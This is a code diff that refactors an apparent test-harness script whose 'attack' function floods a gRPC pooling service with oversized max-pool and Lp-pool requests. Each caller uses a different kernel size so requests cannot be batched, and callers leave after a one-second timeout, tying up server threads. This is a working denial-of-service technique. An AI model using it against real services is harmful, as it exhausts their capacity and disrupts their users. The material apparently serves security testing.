@@ -3,16 +3,12 @@
 Two of them held both threads of a server for more than 25 seconds, and the work went on after their callers had left.
 """
 
-import asyncio
-import time
-from collections import Counter
+import itertools
+from functools import cache
 from typing import Any
 
-import grpc
-import grpc.aio
-
 from poolservice.v1 import pool_pb2 as pb
-from poolservice.v1.pool_pb2_grpc import PoolServiceStub
+from repeated_calls import repeat_calls
 from target import Target
 
 FLAGS: tuple[str, ...] = ()
@@ -27,32 +23,23 @@ _PATIENCE_SECONDS = 1.0
 
 async def attack(target: Target, seconds: float) -> str:
     """Keep more of them in flight than there are threads, and leave after a second."""
-    until = time.monotonic() + seconds
-    statuses: Counter[str] = Counter()
-    async with grpc.aio.insecure_channel(target.address) as channel:
-        stub: Any = PoolServiceStub(channel)
+    numbers = itertools.count()
 
-        async def call(number: int) -> None:
-            # lp_pool has no shortcut for large windows; the size differs so that no two callers share a batch.
-            requests = (_max_pool(500 + number), _lp_pool(300 + number))
-            while time.monotonic() < until:
-                for request in requests:
-                    try:
-                        await stub.Pool(request, timeout=_PATIENCE_SECONDS)
-                    except grpc.aio.AioRpcError as error:
-                        statuses[error.code().name] += 1
-                        await asyncio.sleep(0.01)
-                    else:
-                        statuses["OK"] += 1
+    async def call(stub: Any, caller: int) -> pb.PoolResponse:
+        # lp_pool has no shortcut for large windows; the size differs so that no two callers share a batch.
+        request = _max_pool(500 + caller) if next(numbers) % 2 else _lp_pool(300 + caller)
+        response: pb.PoolResponse = await stub.Pool(request, timeout=_PATIENCE_SECONDS)
+        return response
 
-        await asyncio.gather(*(call(number) for number in range(_CALLERS)))
-    return ", ".join(f"{count} {status}" for status, count in sorted(statuses.items()))
+    return await repeat_calls(target, seconds, call, callers=_CALLERS)
 
 
+@cache
 def _max_pool(kernel: int) -> pb.PoolRequest:
     return _request(pb.PoolSpec(spatial_dims=2, max_pool=pb.MaxPool(kernel_size=[kernel], stride=[1])))
 
 
+@cache
 def _lp_pool(kernel: int) -> pb.PoolRequest:
     return _request(pb.PoolSpec(spatial_dims=2, lp_pool=pb.LpPool(norm_type=1.5, kernel_size=[kernel], stride=[1])))
 
